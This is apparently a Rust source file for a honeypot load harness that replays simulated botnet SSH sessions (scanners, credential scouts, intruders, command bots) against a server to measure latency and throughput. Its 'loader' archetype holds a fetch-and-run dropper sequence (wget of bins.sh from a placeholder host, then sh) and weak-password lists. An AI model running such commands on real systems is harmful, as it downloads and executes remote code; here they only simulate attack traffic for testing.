//! `barrage` — the load harness behind `honeylab barrage`: replays
//! botnet-archetype sessions against a live server over real sockets.
//!
//! Two load models, mirroring the measurement literature:
//!
//! * **Closed loop** — N concurrent clients, each starting its next
//!   session a think-time after the previous one finishes. Offered
//!   load adapts to the server; this measures saturation throughput.
//! * **Open loop** — a target arrival *rate* with Poisson interarrivals
//!   (the renewal process `netsim::faults` already samples), issued on
//!   schedule regardless of completions; this measures behavior at a
//!   fixed offered load, where queueing delay and shed rate live. A
//!   session's latency counts from the instant it was due, not from
//!   when a worker got round to launching it, so a generator that falls
//!   behind shows in p50/p99 instead of hiding.
//!
//! The schedule is built up front by [`build_schedule`] — a pure
//! function of the config, so the same seed always replays the same
//! session mix at the same offsets (the determinism the bench and the
//! tier-1 smoke pin). Workers drive non-blocking sockets through the
//! same [`crate::reactor::Poller`] the server's shards use, and measure
//! whole-session latency into a log-bucketed histogram (p50/p99/p999
//! without storing per-session samples).

use crate::reactor::{conn_interest, Interest, Poller};
use netsim::faults::exp_sample;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use sshwire::{ClientScript, SshClient};
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::time::{Duration, Instant};

/// How sessions are issued.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum LoadMode {
    /// N concurrent clients, think-time between a client's sessions.
    Closed {
        /// Concurrent session slots across the whole run.
        concurrency: usize,
        /// Pause between a slot's completion and its next session.
        think: Duration,
    },
    /// Target sessions/sec with Poisson interarrivals.
    Open {
        /// Mean arrival rate (sessions per second).
        rate: f64,
    },
}

/// Load-harness configuration.
#[derive(Debug, Clone)]
pub struct BarrageConfig {
    /// SSH address of the server under test.
    pub addr: SocketAddr,
    /// Total sessions to replay.
    pub sessions: usize,
    /// Closed- or open-loop issue discipline.
    pub mode: LoadMode,
    /// Seed for the schedule (mix, credentials, arrival offsets).
    pub seed: u64,
    /// Client worker threads (each runs its own poller).
    pub workers: usize,
    /// Per-session wall-clock budget before the client gives up.
    pub session_deadline: Duration,
    /// Cap on sockets in flight across all workers (fd budget).
    pub max_in_flight: usize,
}

impl Default for BarrageConfig {
    fn default() -> Self {
        BarrageConfig {
            addr: SocketAddr::from(([127, 0, 0, 1], 22)),
            sessions: 1_000,
            mode: LoadMode::Closed {
                concurrency: 64,
                think: Duration::ZERO,
            },
            seed: 42,
            workers: 4,
            session_deadline: Duration::from_secs(30),
            max_in_flight: 512,
        }
    }
}

/// One planned session: what to say and (open loop) when to start.
/// Plain data with `PartialEq`, so the determinism property is
/// directly assertable; converted to a wire script at launch time.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SessionPlan {
    /// Arrival offset from the run start, microseconds (0 in closed loop).
    pub offset_micros: u64,
    /// Archetype label (scanner / scout / intruder / command bot …).
    pub archetype: &'static str,
    /// `true`: connect, read the banner, hang up — no SSH spoken.
    pub banner_only: bool,
    /// Login username.
    pub username: String,
    /// Password list tried in order.
    pub passwords: Vec<String>,
    /// Commands executed after a successful login.
    pub commands: Vec<String>,
    /// Disconnect right after auth succeeds (login-only intrusion).
    pub hangup_after_auth: bool,
}

impl SessionPlan {
    fn script(&self) -> ClientScript {
        let mut script = ClientScript::new(
            &self.username,
            &self
                .passwords
                .iter()
                .map(String::as_str)
                .collect::<Vec<_>>(),
            &self.commands.iter().map(String::as_str).collect::<Vec<_>>(),
        );
        script.hangup_after_auth = self.hangup_after_auth;
        script
    }
}

/// Builds the deterministic session schedule: same config ⇒ same plans,
/// byte for byte. The mix mirrors the paper's dominant archetypes:
/// scanners that never speak SSH, credential scouts that fail and
/// leave, login-only intruders (the `3245gs5662d34` pattern), and
/// command bots (echo-probe, uname fingerprint, loader drops).
pub fn build_schedule(cfg: &BarrageConfig) -> Vec<SessionPlan> {
    let mut rng = StdRng::seed_from_u64(cfg.seed);
    let mut offset = 0.0f64;
    let mut plans = Vec::with_capacity(cfg.sessions);
    for _ in 0..cfg.sessions {
        let offset_micros = match cfg.mode {
            LoadMode::Closed { .. } => 0,
            LoadMode::Open { rate } => {
                offset += exp_sample(1.0 / rate.max(1e-9), &mut rng);
                (offset * 1e6) as u64
            }
        };
        let roll: u32 = rng.random_range(0..100);
        let plan = if roll < 35 {
            // Port scanner: connect, grab the banner, hang up.
            SessionPlan {
                offset_micros,
                archetype: "scanner",
                banner_only: true,
                username: String::new(),
                passwords: Vec::new(),
                commands: Vec::new(),
                hangup_after_auth: false,
            }
        } else if roll < 55 {
            // Credential scout: every guess fails, then disconnects.
            // (Only root/phil ever authenticate, so any other username
            // is guaranteed to exhaust its list.)
            let user = ["admin", "user", "test", "oracle", "postgres"][rng.random_range(0..5usize)];
            let n = rng.random_range(1..=3usize);
            let pool = ["123456", "password", "admin", "1234", "root", "qwerty"];
            let passwords = (0..n)
                .map(|_| pool[rng.random_range(0..pool.len())].to_string())
                .collect();
            SessionPlan {
                offset_micros,
                archetype: "scout",
                banner_only: false,
                username: user.to_string(),
                passwords,
                commands: Vec::new(),
                hangup_after_auth: false,
            }
        } else if roll < 70 {
            // Login-only intruder: authenticate, run nothing, leave.
            SessionPlan {
                offset_micros,
                archetype: "intruder",
                banner_only: false,
                username: "root".to_string(),
                passwords: vec![format!("pw{}", rng.random_range(0..10_000u32))],
                commands: Vec::new(),
                hangup_after_auth: true,
            }
        } else if roll < 90 {
            // Command bot: echo probe or uname fingerprint.
            let commands = match rng.random_range(0..3u32) {
                0 => vec!["echo OK".to_string()],
                1 => vec!["uname -a".to_string()],
                _ => vec!["uname -a".to_string(), "nproc".to_string()],
            };
            SessionPlan {
                offset_micros,
                archetype: "command_bot",
                banner_only: false,
                username: "root".to_string(),
                passwords: vec![format!("pw{}", rng.random_range(0..10_000u32))],
                commands,
                hangup_after_auth: false,
            }
        } else {
            // Loader: stage a dropper via the shell.
            SessionPlan {
                offset_micros,
                archetype: "loader",
                banner_only: false,
                username: "root".to_string(),
                passwords: vec![format!("pw{}", rng.random_range(0..10_000u32))],
                commands: vec![
                    "cd /tmp".to_string(),
                    format!(
                        "wget http://198.51.100.{}/bins.sh",
                        rng.random_range(1..255u32)
                    ),
                    "sh bins.sh".to_string(),
                ],
                hangup_after_auth: false,
            }
        };
        plans.push(plan);
    }
    plans
}

// ---------------------------------------------------------------------------
// Latency histogram: log-bucketed (32 linear sub-buckets per power of
// two), microsecond values. ~1.5 KiB of counters per worker, ≤3 %
// quantile error — no per-session allocation.
// ---------------------------------------------------------------------------

const HIST_SUB: u64 = 32;
const HIST_BUCKETS: usize = 60 * HIST_SUB as usize;

/// Log-bucketed latency histogram over microsecond values.
#[derive(Clone)]
pub struct LatencyHistogram {
    counts: Vec<u64>,
    total: u64,
    max: u64,
}

impl Default for LatencyHistogram {
    fn default() -> Self {
        LatencyHistogram {
            counts: vec![0; HIST_BUCKETS],
            total: 0,
            max: 0,
        }
    }
}

fn bucket_index(v: u64) -> usize {
    if v < HIST_SUB {
        return v as usize;
    }
    let msb = 63 - u64::from(v.leading_zeros());
    let shift = msb - 5;
    let sub = (v >> shift) - HIST_SUB;
    ((shift + 1) * HIST_SUB + sub) as usize
}

fn bucket_upper(idx: usize) -> u64 {
    let idx = idx as u64;
    if idx < HIST_SUB {
        return idx;
    }
    let shift = idx / HIST_SUB - 1;
    let sub = idx % HIST_SUB;
    (HIST_SUB + sub + 1) << shift
}

impl LatencyHistogram {
    /// Records one microsecond-valued sample.
    pub fn record(&mut self, micros: u64) {
        let idx = bucket_index(micros).min(HIST_BUCKETS - 1);
        self.counts[idx] += 1;
        self.total += 1;
        self.max = self.max.max(micros);
    }

    /// Merges another histogram into this one.
    pub fn merge(&mut self, other: &LatencyHistogram) {
        for (a, b) in self.counts.iter_mut().zip(&other.counts) {
            *a += b;
        }
        self.total += other.total;
        self.max = self.max.max(other.max);
    }

    /// Samples recorded.
    pub fn total(&self) -> u64 {
        self.total
    }

    /// The `q`-quantile (0 < q ≤ 1) in microseconds — an upper bound of
    /// the containing bucket, capped at the observed max.
    pub fn quantile(&self, q: f64) -> u64 {
        if self.total == 0 {
            return 0;
        }
        let target = ((q * self.total as f64).ceil() as u64).clamp(1, self.total);
        let mut seen = 0u64;
        for (idx, &c) in self.counts.iter().enumerate() {
            seen += c;
            if seen >= target {
                return bucket_upper(idx).min(self.max);
            }
        }
        self.max
    }

    /// Largest sample recorded, microseconds.
    pub fn max(&self) -> u64 {
        self.max
    }
}

// ---------------------------------------------------------------------------
// The run loop.
// ---------------------------------------------------------------------------

/// Outcome of a barrage run, with the same render/api_json discipline
/// as [`crate::ServeReport`].
#[derive(Debug, Clone)]
pub struct BarrageReport {
    /// `"closed"` or `"open"`.
    pub mode: String,
    /// Sessions in the schedule.
    pub planned: u64,
    /// Sessions that completed their dialogue.
    pub completed: u64,
    /// Sessions the server shed (closed before a single byte).
    pub shed: u64,
    /// Sessions that failed mid-dialogue (reset, protocol error,
    /// connect failure).
    pub errors: u64,
    /// Sessions abandoned at the client-side deadline.
    pub timeouts: u64,
    /// Open loop only: arrivals issued >100ms behind schedule (the
    /// generator, not the server, fell behind).
    pub late_starts: u64,
    /// Wall-clock of the whole run, seconds.
    pub duration_secs: f64,
    /// Offered load (open: the configured rate; closed: == achieved).
    pub offered_sps: f64,
    /// Completed sessions per second of wall-clock.
    pub achieved_sps: f64,
    /// Median session latency, milliseconds.
    pub p50_ms: f64,
    /// 99th-percentile session latency, milliseconds.
    pub p99_ms: f64,
    /// 99.9th-percentile session latency, milliseconds.
    pub p999_ms: f64,
    /// Worst session latency, milliseconds.
    pub max_ms: f64,
    /// Bytes received from the server.
    pub bytes_in: u64,
    /// Bytes sent to the server.
    pub bytes_out: u64,
    /// Schedule seed, for replay.
    pub seed: u64,
}

impl BarrageReport {
    /// One-line-per-fact text rendering for the CLI.
    pub fn render(&self) -> String {
        format!(
            "barrage: mode={} planned={} completed={} shed={} errors={} timeouts={} late_starts={}\n\
             load: offered={:.1}/s achieved={:.1}/s duration={:.2}s\n\
             latency: p50={:.2}ms p99={:.2}ms p999={:.2}ms max={:.2}ms\n\
             bytes: in={} out={} seed={}",
            self.mode,
            self.planned,
            self.completed,
            self.shed,
            self.errors,
            self.timeouts,
            self.late_starts,
            self.offered_sps,
            self.achieved_sps,
            self.duration_secs,
            self.p50_ms,
            self.p99_ms,
            self.p999_ms,
            self.max_ms,
            self.bytes_in,
            self.bytes_out,
            self.seed,
        )
    }

    /// The v1 document (envelope kind `"barrage_report"`).
    pub fn api_json(&self) -> hutil::Json {
        use hutil::Json;
        hutil::api_envelope(
            "barrage_report",
            Json::obj([
                ("mode", Json::str(&self.mode)),
                ("planned", Json::u64(self.planned)),
                ("completed", Json::u64(self.completed)),
                ("shed", Json::u64(self.shed)),
                ("errors", Json::u64(self.errors)),
                ("timeouts", Json::u64(self.timeouts)),
                ("late_starts", Json::u64(self.late_starts)),
                ("duration_secs", Json::Num(self.duration_secs)),
                ("offered_sps", Json::Num(self.offered_sps)),
                ("achieved_sps", Json::Num(self.achieved_sps)),
                ("p50_ms", Json::Num(self.p50_ms)),
                ("p99_ms", Json::Num(self.p99_ms)),
                ("p999_ms", Json::Num(self.p999_ms)),
                ("max_ms", Json::Num(self.max_ms)),
                ("bytes_in", Json::u64(self.bytes_in)),
                ("bytes_out", Json::u64(self.bytes_out)),
                ("seed", Json::u64(self.seed)),
            ]),
        )
    }

    /// Deterministic sample document for the `docs/api_v1` goldens.
    pub fn sample() -> Self {
        BarrageReport {
            mode: "open".to_string(),
            planned: 10_000,
            completed: 9_990,
            shed: 10,
            errors: 0,
            timeouts: 0,
            late_starts: 0,
            duration_secs: 10.05,
            offered_sps: 1_000.0,
            achieved_sps: 994.0,
            p50_ms: 0.75,
            p99_ms: 2.5,
            p999_ms: 6.0,
            max_ms: 11.25,
            bytes_in: 4_100_000,
            bytes_out: 3_900_000,
            seed: 42,
        }
    }
}

/// One in-flight client session.
struct Flight {
    stream: TcpStream,
    client: Option<SshClient>,
    pending_out: Vec<u8>,
    got_any: bool,
    /// When the session really started; its deadline counts from here.
    started: Instant,
    /// Where its latency counts from: the instant an open-loop plan was
    /// due, so a generator that falls behind shows in the latencies.
    timed_from: Instant,
    armed: Interest,
}

enum FlightEnd {
    Completed,
    Shed,
    Error,
}

impl Flight {
    /// Non-blocking pump, mirroring the server's `Conn::pump` shape.
    fn pump(
        &mut self,
        buf: &mut [u8],
        bytes_in: &mut u64,
        bytes_out: &mut u64,
    ) -> Option<FlightEnd> {
        loop {
            let mut progress = false;
            if let Some(client) = &mut self.client {
                let chunk = client.take_output();
                if !chunk.is_empty() {
                    self.pending_out.extend_from_slice(&chunk);
                    progress = true;
                }
            }
            while !self.pending_out.is_empty() {
                match self.stream.write(&self.pending_out) {
                    Ok(0) => return Some(self.eof_end()),
                    Ok(n) => {
                        self.pending_out.drain(..n);
                        *bytes_out += n as u64;
                        progress = true;
                    }
                    Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => break,
                    Err(e) if e.kind() == std::io::ErrorKind::Interrupted => continue,
                    Err(_) => return Some(self.eof_end()),
                }
            }
            match self.stream.read(buf) {
                Ok(0) => return Some(self.eof_end()),
                Ok(n) => {
                    self.got_any = true;
                    *bytes_in += n as u64;
                    progress = true;
                    match &mut self.client {
                        Some(client) => {
                            if client.input(&buf[..n]).is_err() {
                                return Some(FlightEnd::Error);
                            }
                        }
                        // Banner-only scanner: any byte completes it.
                        None => return Some(FlightEnd::Completed),
                    }
                }
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
                Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {}
                Err(_) => return Some(self.eof_end()),
            }
            if !progress {
                break;
            }
        }
        if let Some(client) = &self.client {
            if client.is_closed() && self.pending_out.is_empty() {
                return Some(FlightEnd::Completed);
            }
        }
        None
    }

    /// Classifies an EOF/reset: before any byte it is a shed (admission
    /// control closed us at the door); after the dialogue closed it is
    /// a completion; in the middle it is an error.
    fn eof_end(&self) -> FlightEnd {
        let dialogue_done = match &self.client {
            None => true, // banner-only: any bytes at all is a success
            Some(client) => client.is_closed(),
        };
        if !self.got_any {
            FlightEnd::Shed
        } else if dialogue_done {
            FlightEnd::Completed
        } else {
            FlightEnd::Error
        }
    }
}

/// Per-worker tallies, merged into the report at the end.
#[derive(Default)]
struct WorkerTally {
    completed: u64,
    shed: u64,
    errors: u64,
    timeouts: u64,
    late_starts: u64,
    bytes_in: u64,
    bytes_out: u64,
    hist: LatencyHistogram,
}

/// Runs the barrage against a live server and reports.
pub fn run(cfg: &BarrageConfig) -> Result<BarrageReport, String> {
    if !crate::reactor::poller_supported() {
        return Err("barrage needs a readiness API (unix only)".to_string());
    }
    if cfg.sessions == 0 {
        return Err("nothing to do: sessions == 0".to_string());
    }
    let workers = cfg.workers.clamp(1, cfg.sessions);
    let plans = build_schedule(cfg);
    let next = AtomicUsize::new(0);
    let seq = AtomicU64::new(0);
    let t0 = Instant::now();

    let tallies: Vec<WorkerTally> = std::thread::scope(|scope| {
        let mut handles = Vec::new();
        for w in 0..workers {
            let plans = &plans;
            let next = &next;
            let seq = &seq;
            handles.push(scope.spawn(move || worker_loop(w, workers, cfg, plans, next, seq, t0)));
        }
        handles
            .into_iter()
            .map(|h| match h.join() {
                Ok(Ok(tally)) => tally,
                Ok(Err(_)) | Err(_) => WorkerTally::default(),
            })
            .collect()
    });

    let duration = t0.elapsed().as_secs_f64().max(1e-9);
    let mut total = WorkerTally::default();
    for t in &tallies {
        total.completed += t.completed;
        total.shed += t.shed;
        total.errors += t.errors;
        total.timeouts += t.timeouts;
        total.late_starts += t.late_starts;
        total.bytes_in += t.bytes_in;
        total.bytes_out += t.bytes_out;
        total.hist.merge(&t.hist);
    }
    let achieved = total.completed as f64 / duration;
    let (mode, offered) = match cfg.mode {
        LoadMode::Closed { .. } => ("closed", achieved),
        LoadMode::Open { rate } => ("open", rate),
    };
    let ms = |q: f64| total.hist.quantile(q) as f64 / 1_000.0;
    Ok(BarrageReport {
        mode: mode.to_string(),
        planned: plans.len() as u64,
        completed: total.completed,
        shed: total.shed,
        errors: total.errors,
        timeouts: total.timeouts,
        late_starts: total.late_starts,
        duration_secs: duration,
        offered_sps: offered,
        achieved_sps: achieved,
        p50_ms: ms(0.50),
        p99_ms: ms(0.99),
        p999_ms: ms(0.999),
        max_ms: total.hist.max() as f64 / 1_000.0,
        bytes_in: total.bytes_in,
        bytes_out: total.bytes_out,
        seed: cfg.seed,
    })
}

/// Slot bookkeeping for closed-loop mode: each worker owns a share of
/// the concurrency budget. `ready_at` holds only *available* slots;
/// a launch consumes one, and every session end (complete, shed,
/// error, timeout, even a failed connect) returns it after the think
/// time — so slots can never leak.
struct ClosedSlots {
    ready_at: Vec<Instant>,
    think: Duration,
}

impl ClosedSlots {
    fn replenish(&mut self) {
        self.ready_at.push(Instant::now() + self.think);
    }
}

fn slot_back(closed: &mut Option<ClosedSlots>) {
    if let Some(slots) = closed {
        slots.replenish();
    }
}

#[allow(clippy::too_many_arguments)]
fn worker_loop(
    w: usize,
    workers: usize,
    cfg: &BarrageConfig,
    plans: &[SessionPlan],
    next: &AtomicUsize,
    seq: &AtomicU64,
    t0: Instant,
) -> Result<WorkerTally, String> {
    let mut poller = Poller::new().map_err(|e| format!("poller: {e}"))?;
    let mut tally = WorkerTally::default();
    let mut flights: Vec<Option<Flight>> = Vec::new();
    let mut free: Vec<usize> = Vec::new();
    let mut in_flight = 0usize;
    let mut events = Vec::new();
    let mut buf = vec![0u8; 16 * 1024];
    let mut last_sweep = Instant::now();

    // Closed loop: this worker's slice of the concurrency budget.
    // Open loop: a plain in-flight cap from the fd budget.
    let mut closed = match cfg.mode {
        LoadMode::Closed { concurrency, think } => {
            let share = (concurrency / workers) + usize::from(w < concurrency % workers);
            let share = share.max(usize::from(w == 0));
            if share == 0 {
                // Fewer slots than workers: this worker has nothing to do.
                return Ok(tally);
            }
            Some(ClosedSlots {
                ready_at: vec![Instant::now(); share],
                think,
            })
        }
        LoadMode::Open { .. } => None,
    };
    let cap = match &closed {
        Some(c) => c.ready_at.len(),
        None => (cfg.max_in_flight / workers).max(1),
    };

    loop {
        // Launch phase: claim every plan we are allowed to start now.
        let mut next_due: Option<Instant> = None;
        loop {
            if in_flight >= cap {
                break;
            }
            let now = Instant::now();
            match &mut closed {
                Some(slots) => {
                    // A slot must be ready (think time elapsed).
                    let Some(pos) = slots.ready_at.iter().position(|&t| t <= now) else {
                        next_due = slots.ready_at.iter().min().copied();
                        break;
                    };
                    let i = next.fetch_add(1, Ordering::AcqRel);
                    if i >= plans.len() {
                        break;
                    }
                    slots.ready_at.swap_remove(pos);
                    if !launch(
                        &plans[i],
                        None,
                        cfg,
                        seq,
                        &mut poller,
                        &mut flights,
                        &mut free,
                        &mut in_flight,
                        &mut tally,
                    ) {
                        // Never took off: the slot comes straight back.
                        slots.replenish();
                    }
                }
                None => {
                    // Open loop: claim the next plan only once due.
                    let i = next.load(Ordering::Acquire);
                    if i >= plans.len() {
                        break;
                    }
                    let due = t0 + Duration::from_micros(plans[i].offset_micros);
                    if now < due {
                        next_due = Some(due);
                        break;
                    }
                    if next
                        .compare_exchange(i, i + 1, Ordering::AcqRel, Ordering::Acquire)
                        .is_err()
                    {
                        continue; // another worker took it; retry
                    }
                    if now.duration_since(due) > Duration::from_millis(100) {
                        tally.late_starts += 1;
                    }
                    launch(
                        &plans[i],
                        Some(due),
                        cfg,
                        seq,
                        &mut poller,
                        &mut flights,
                        &mut free,
                        &mut in_flight,
                        &mut tally,
                    );
                }
            }
        }

        if in_flight == 0 && next.load(Ordering::Acquire) >= plans.len() {
            return Ok(tally);
        }

        // Park until IO readiness or the next scheduled arrival.
        let now = Instant::now();
        let timeout = match next_due {
            Some(due) => due
                .saturating_duration_since(now)
                .min(Duration::from_millis(10)),
            None => Duration::from_millis(10),
        };
        if poller.wait(timeout, &mut events).is_err() {
            events.clear();
        }
        for ev in &events {
            pump_flight(
                ev.token as usize,
                cfg,
                &mut poller,
                &mut flights,
                &mut free,
                &mut in_flight,
                &mut tally,
                &mut closed,
                &mut buf,
            );
        }

        // Deadline sweep, amortized.
        if last_sweep.elapsed() >= Duration::from_millis(25) {
            last_sweep = Instant::now();
            for (i, slot) in flights.iter_mut().enumerate() {
                let expired = matches!(
                    slot.as_ref(),
                    Some(f) if f.started.elapsed() >= cfg.session_deadline
                );
                if expired {
                    let f = slot.take().expect("checked above");
                    #[cfg(unix)]
                    {
                        use std::os::unix::io::AsRawFd;
                        let _ = poller.deregister(f.stream.as_raw_fd());
                    }
                    tally.timeouts += 1;
                    free.push(i);
                    in_flight -= 1;
                    slot_back(&mut closed);
                    drop(f);
                }
            }
        }
    }
}

/// Starts one session: connect, wrap, register, first pump. Its
/// latency counts from `due` (an open-loop arrival) or else from now.
/// Returns `true` if a flight is now in the table (and will release its
/// slot on completion); `false` if the session ended immediately.
#[allow(clippy::too_many_arguments)]
fn launch(
    plan: &SessionPlan,
    due: Option<Instant>,
    cfg: &BarrageConfig,
    seq: &AtomicU64,
    poller: &mut Poller,
    flights: &mut Vec<Option<Flight>>,
    free: &mut Vec<usize>,
    in_flight: &mut usize,
    tally: &mut WorkerTally,
) -> bool {
    let started = Instant::now();
    let timed_from = due.unwrap_or(started);
    let stream = match TcpStream::connect_timeout(&cfg.addr, cfg.session_deadline) {
        Ok(s) => s,
        Err(_) => {
            tally.errors += 1;
            return false;
        }
    };
    if stream.set_nonblocking(true).is_err() {
        tally.errors += 1;
        return false;
    }
    let _ = stream.set_nodelay(true);
    let client = if plan.banner_only {
        None
    } else {
        let n = seq.fetch_add(1, Ordering::Relaxed);
        Some(SshClient::new(plan.script(), n.to_le_bytes().to_vec()))
    };
    let mut flight = Flight {
        stream,
        client,
        pending_out: Vec::new(),
        got_any: false,
        started,
        timed_from,
        armed: Interest::READ,
    };
    // First pump sends the client's version banner.
    if let Some(end) = flight.pump(&mut [0u8; 4096], &mut tally.bytes_in, &mut tally.bytes_out) {
        settle(tally, end, timed_from);
        return false;
    }
    let i = free.pop().unwrap_or_else(|| {
        flights.push(None);
        flights.len() - 1
    });
    flight.armed = conn_interest(!flight.pending_out.is_empty());
    #[cfg(unix)]
    {
        use std::os::unix::io::AsRawFd;
        if poller
            .register(flight.stream.as_raw_fd(), i as u64, flight.armed)
            .is_err()
        {
            tally.errors += 1;
            free.push(i);
            return false;
        }
    }
    flights[i] = Some(flight);
    *in_flight += 1;
    true
}

/// Pumps one flight by table index; settles and frees it if finished.
#[allow(clippy::too_many_arguments)]
fn pump_flight(
    i: usize,
    cfg: &BarrageConfig,
    poller: &mut Poller,
    flights: &mut [Option<Flight>],
    free: &mut Vec<usize>,
    in_flight: &mut usize,
    tally: &mut WorkerTally,
    closed: &mut Option<ClosedSlots>,
    buf: &mut [u8],
) {
    let _ = cfg;
    let Some(flight) = flights.get_mut(i).and_then(Option::as_mut) else {
        return;
    };
    match flight.pump(buf, &mut tally.bytes_in, &mut tally.bytes_out) {
        Some(end) => {
            let f = flights[i].take().expect("checked above");
            #[cfg(unix)]
            {
                use std::os::unix::io::AsRawFd;
                let _ = poller.deregister(f.stream.as_raw_fd());
            }
            settle(tally, end, f.timed_from);
            free.push(i);
            *in_flight -= 1;
            slot_back(closed);
        }
        None => {
            let want = conn_interest(!flight.pending_out.is_empty());
            if want != flight.armed {
                #[cfg(unix)]
                {
                    use std::os::unix::io::AsRawFd;
                    let _ = poller.reregister(flight.stream.as_raw_fd(), i as u64, want);
                }
                flight.armed = want;
            }
        }
    }
}

/// Books a finished session into the tally, timed from `timed_from`.
fn settle(tally: &mut WorkerTally, end: FlightEnd, timed_from: Instant) {
    match end {
        FlightEnd::Completed => {
            tally.completed += 1;
            tally
                .hist
                .record(timed_from.elapsed().as_micros().min(u128::from(u64::MAX)) as u64);
        }
        FlightEnd::Shed => tally.shed += 1,
        FlightEnd::Error => tally.errors += 1,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cfg(seed: u64, mode: LoadMode) -> BarrageConfig {
        BarrageConfig {
            sessions: 500,
            seed,
            mode,
            ..BarrageConfig::default()
        }
    }

    #[test]
    fn schedule_is_deterministic_for_a_seed() {
        for mode in [
            LoadMode::Closed {
                concurrency: 8,
                think: Duration::ZERO,
            },
            LoadMode::Open { rate: 1_000.0 },
        ] {
            let a = build_schedule(&cfg(7, mode));
            let b = build_schedule(&cfg(7, mode));
            assert_eq!(a, b, "same seed must produce the same schedule");
            let c = build_schedule(&cfg(8, mode));
            assert_ne!(a, c, "a different seed must change the schedule");
        }
    }

    #[test]
    fn open_loop_offsets_are_monotone_and_poisson_scaled() {
        let plans = build_schedule(&cfg(42, LoadMode::Open { rate: 2_000.0 }));
        let mut prev = 0u64;
        for p in &plans {
            assert!(p.offset_micros >= prev, "arrivals must be ordered");
            prev = p.offset_micros;
        }
        // 500 arrivals at 2000/s ≈ 250ms of schedule; allow wide slack
        // for the exponential tail.
        let last = plans.last().unwrap().offset_micros;
        assert!(
            (50_000..2_000_000).contains(&last),
            "mean interarrival is wildly off: last offset {last}µs"
        );
    }

    #[test]
    fn closed_loop_offsets_are_zero() {
        let plans = build_schedule(&cfg(
            42,
            LoadMode::Closed {
                concurrency: 8,
                think: Duration::ZERO,
            },
        ));
        assert!(plans.iter().all(|p| p.offset_micros == 0));
    }

    #[test]
    fn schedule_covers_the_archetype_mix() {
        let plans = build_schedule(&BarrageConfig {
            sessions: 2_000,
            ..BarrageConfig::default()
        });
        for kind in ["scanner", "scout", "intruder", "command_bot", "loader"] {
            assert!(
                plans.iter().any(|p| p.archetype == kind),
                "mix must include {kind}"
            );
        }
        // Scanners never carry credentials; intruders hang up after auth.
        for p in &plans {
            if p.banner_only {
                assert!(p.passwords.is_empty() && p.commands.is_empty());
            }
            if p.archetype == "intruder" {
                assert!(p.hangup_after_auth && p.commands.is_empty());
            }
            if p.archetype == "scout" {
                // Scout credentials must actually fail (determinism of
                // the shed/complete accounting depends on it).
                assert_ne!(p.username, "root");
                assert_ne!(p.username, "phil");
            }
        }
    }

    #[test]
    fn histogram_quantiles_bracket_the_samples() {
        let mut h = LatencyHistogram::default();
        for v in 1..=1_000u64 {
            h.record(v);
        }
        assert_eq!(h.total(), 1_000);
        let p50 = h.quantile(0.50);
        let p99 = h.quantile(0.99);
        assert!((450..=600).contains(&p50), "p50 {p50} out of range");
        assert!((950..=1_024).contains(&p99), "p99 {p99} out of range");
        assert_eq!(h.max(), 1_000);
        // Log-bucket error stays bounded (~3%+1 bucket).
        let mut big = LatencyHistogram::default();
        big.record(1_000_000);
        assert!(big.quantile(0.5) <= 1_000_000);
    }

    #[test]
    fn histogram_merge_adds_counts() {
        let mut a = LatencyHistogram::default();
        let mut b = LatencyHistogram::default();
        a.record(10);
        b.record(20);
        b.record(1_000_000);
        a.merge(&b);
        assert_eq!(a.total(), 3);
        assert_eq!(a.max(), 1_000_000);
    }

    #[test]
    fn report_render_and_api_json_agree() {
        let r = BarrageReport::sample();
        let text = r.render();
        assert!(text.contains("mode=open"));
        assert!(text.contains("completed=9990"));
        let doc = r.api_json();
        assert_eq!(
            doc.get("kind").and_then(hutil::Json::as_str),
            Some("barrage_report")
        );
        let data = doc.get("data").unwrap();
        assert_eq!(
            data.get("planned").and_then(hutil::Json::as_i64),
            Some(10_000)
        );
        assert_eq!(
            data.get("offered_sps").and_then(hutil::Json::as_f64),
            Some(1_000.0)
        );
    }

    /// An open-loop plan launched late is timed from when it was due:
    /// the lateness is in its latency. Its deadline still counts from
    /// the real start, so a late launch is not timed out for it.
    #[cfg(unix)]
    #[test]
    fn a_late_open_loop_session_is_timed_from_its_due_instant() {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = listener.local_addr().unwrap();
        let server = std::thread::spawn(move || {
            let (mut s, _) = listener.accept().unwrap();
            s.write_all(b"SSH-2.0-test\r\n").unwrap();
            let _ = s.read(&mut [0u8; 64]); // hold until the client hangs up
        });
        let late = Duration::from_millis(300);
        let cfg = BarrageConfig {
            addr,
            sessions: 1,
            mode: LoadMode::Open { rate: 1.0 },
            workers: 1,
            session_deadline: Duration::from_millis(250),
            ..BarrageConfig::default()
        };
        let plan = SessionPlan {
            offset_micros: 0,
            banner_only: true,
            ..build_schedule(&cfg).remove(0)
        };
        let t0 = Instant::now() - late;
        let launched = Instant::now();
        let tally = worker_loop(
            0,
            1,
            &cfg,
            &[plan],
            &AtomicUsize::new(0),
            &AtomicU64::new(0),
            t0,
        )
        .unwrap();
        let own = launched.elapsed();
        assert_eq!((tally.completed, tally.timeouts), (1, 0));
        assert_eq!(tally.late_starts, 1);
        let recorded = Duration::from_micros(tally.hist.max());
        assert!(
            recorded >= late,
            "recorded {recorded:?}, launched {late:?} late"
        );
        assert!(
            recorded >= own,
            "recorded {recorded:?} < own run time {own:?}"
        );
        server.join().unwrap();
    }
}
